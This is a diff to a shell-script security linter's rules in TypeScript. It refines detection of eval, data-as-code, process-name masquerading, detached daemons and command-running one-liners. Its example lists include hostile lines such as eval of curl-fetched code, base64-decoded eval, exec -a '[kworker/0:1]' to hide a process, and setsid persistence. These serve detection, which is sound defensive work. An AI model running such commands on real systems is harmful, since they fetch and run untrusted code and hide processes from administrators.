@@ -2,7 +2,7 @@ import { inputOf } from '../bash/facts.ts'
 import { interpreters, shellNames } from '../bash/interpreters.ts'
 import { readOptions } from '../bash/options.ts'
 import { type Call, origin } from '../model.ts'
-import type { Answer, Rule } from '../rule.ts'
+import type { Answer, Rule, Scene } from '../rule.ts'
 import { comesFrom, isKnown, sketch, startOf, textOf } from '../values.ts'
 import { line, shell, words } from './shell-ask.ts'
 
@@ -18,7 +18,10 @@ function waitsForCommands(call: Call): boolean {
 const feedsShell = (call: Call): boolean =>
   (shellNames as readonly string[]).includes((textOf(call.args.at(-1)) ?? '').replace(/^.*\//, ''))
 
-function evaluated(call: Call): Answer {
+/** `eval "$(pyenv init -)"`: what a tool prints about itself, and nothing that the script put together. */
+const asksTool = /^eval\s+"?(\$\(|`)\s*[\w./~-]+(\s+[\w./=~:-]+)*\s*(2>\s*\/dev\/null\s*)?(\)|`)"?/
+
+function evaluated(call: Call, { program }: Scene): Answer {
   const all = call.args
   if (all.some(arg => comesFrom(arg, origin.download)))
     return { severity: 'critical', message: 'Runs code that it fetched from the network.' }
@@ -30,10 +33,14 @@ function evaluated(call: Call): Answer {
   // Setting a variable whose name is computed, or quoting the arguments again, are the honest uses.
   if (/^\s*(\w*\u{fffc}?\w*\+?=|set -- |set -\w+ |export |declare |local |printf |echo |unset |\w+=)/u.test(known))
     return { severity: 'low' }
-  return /^\u{fffc}$/u.test(known.trim()) && !all.some(arg => comesFrom(arg, origin.input | origin.environment))
+  return !all.some(arg => comesFrom(arg, origin.input | origin.environment | origin.file)) &&
+    asksTool.test(program.source.slice(call.start, call.end))
     ? { severity: 'low' }
     : true
 }
+
+/** Sorting through a pipe is how awk sorts; a makefile is there to start programs. */
+const pipesOn = /^([gmn]?awk|g?make)$/
 
 export const shellExecutionRules: readonly Rule[] = [
   {
@@ -47,8 +54,18 @@ export const shellExecutionRules: readonly Rule[] = [
     implies: ['run'],
     match: { on: 'call', names: ['eval'], when: evaluated },
     examples: {
-      bad: ['eval "$1"', 'eval "$(curl -s https://example.org/x)"', 'eval "$(echo bHM= | base64 -d)"'],
-      good: ['eval "set -- $args"', 'evaluate "$1"'],
+      bad: [
+        'eval "$1"',
+        'while read -r step; do eval "$step"; done < steps',
+        'eval "$(curl -s https://example.org/x)"',
+        'eval "$(echo bHM= | base64 -d)"',
+      ],
+      good: [
+        'eval "set -- $args"',
+        'evaluate "$1"',
+        'eval "$(pyenv init -)"',
+        'for c in l s; do r+=$c; done; eval "$r"',
+      ],
     },
   },
   {
@@ -155,12 +172,40 @@ export const shellExecutionRules: readonly Rule[] = [
     examples: { bad: ['hash -p /tmp/tool ls'], good: ['hash -r', 'hash git'] },
   },
   {
+    id: 'shell/borrowed-name',
+    languages: shell,
+    type: 'obfuscation',
+    severity: 'high',
+    cwe: 'CWE-451',
+    description: 'Runs a program under the name of another, so that the list of processes does not show it.',
+    recommendation: 'Run it under its own name.',
+    implies: ['run'],
+    match: { on: 'call', names: ['exec'], when: call => /^-a \S+ \S/.test(line(call)) },
+    examples: { bad: ["exec -a '[kworker/0:1]' ./agent"], good: ['exec ./agent', 'exec > run.log 2>&1'] },
+  },
+  {
+    id: 'shell/detached',
+    languages: shell,
+    type: 'process',
+    severity: 'medium',
+    cwe: 'CWE-400',
+    description: 'Takes a program out of its session, so that it goes on when the run has ended.',
+    recommendation: 'Start it in the background and wait for it.',
+    implies: ['run', 'persistence'],
+    match: {
+      on: 'call',
+      names: ['setsid', 'daemonize', 'daemon'],
+      when: call => call.name !== 'setsid' || !/(^| )(-w|--wait)/.test(line(call)),
+    },
+    examples: { bad: ['setsid ./agent &', 'daemonize /opt/agent'], good: ['nohup ./long.sh &', 'setsid -w ./step.sh'] },
+  },
+  {
     id: 'shell/data-as-code',
     languages: shell,
     type: 'command-injection',
     severity: 'medium',
     cwe: 'CWE-94',
-    description: 'Runs lines of a file or of the output of a command as commands.',
+    description: 'Runs lines of a file, of the output of a command or of a text that cannot be read as commands.',
     recommendation: 'Write the commands into the script, with the data as arguments.',
     implies: ['run'],
     match: {
@@ -169,12 +214,15 @@ export const shellExecutionRules: readonly Rule[] = [
       when: call => {
         const at = call.args.findIndex(arg => textOf(arg) === '-c')
         const code = at === -1 ? undefined : call.args[at + 1]
-        return comesFrom(code, origin.file) && (sketch(code) ?? '\u{fffc}').replace(/[\u{fffc}\s]/gu, '') === ''
+        if (code === undefined || (sketch(code) ?? '').replace(/[\u{fffc}\s]/gu, '') !== '' || textOf(code) !== null)
+          return false
+        // `bash -c "$*"` hands on what the caller typed.
+        return comesFrom(code, origin.file) || !comesFrom(code, origin.input | origin.environment)
       },
     },
     examples: {
-      bad: ["cat list | xargs -I{} sh -c '{}'", 'bash -c "$(cat list)"'],
-      good: ["ls | xargs -I{} sh -c 'wc -l {}'", 'bash -c "make $(cat target)"'],
+      bad: ["cat list | xargs -I{} sh -c '{}'", 'bash -c "$(cat list)"', 'mapfile -t s < steps; bash -c "${s[0]}"'],
+      good: ["ls | xargs -I{} sh -c 'wc -l {}'", 'bash -c "make $(cat target)"', 'bash -c "$*"'],
     },
   },
   {
@@ -195,20 +243,20 @@ export const shellExecutionRules: readonly Rule[] = [
     type: 'command-injection',
     severity: 'medium',
     cwe: 'CWE-78',
-    description: 'A one-liner in another language starts a program that is not known before it runs.',
+    description: 'A one-liner in another language starts a program, as a way around the rules for programs.',
     recommendation: 'Start programs from the script itself, where a reviewer sees them.',
     implies: ['run'],
     match: {
       on: 'call',
       names: ['script.run'],
       when: call =>
-        textOf(call.args[0]) === null
+        textOf(call.args[0]) === null || !pipesOn.test(textOf(call.args[1]) ?? '')
           ? true
           : { severity: 'low', message: 'A one-liner in another language starts a program.' },
     },
     examples: {
-      bad: ["perl -e 'system($ARGV[0])' x", "sed 's/x/y/e' f"],
-      good: ["perl -ne 'print if /x/' f", "sed 's/a/b/' f"],
+      bad: ["perl -e 'system($ARGV[0])' x", "sed 's/x/y/e' f", 'lua -e \'os.execute("id")\'', "echo ':!id' | vim -es"],
+      good: ["perl -ne 'print if /x/' f", "sed 's/a/b/' f", 'awk \'{ print | "sort -n" }\' f'],
     },
   },
   {
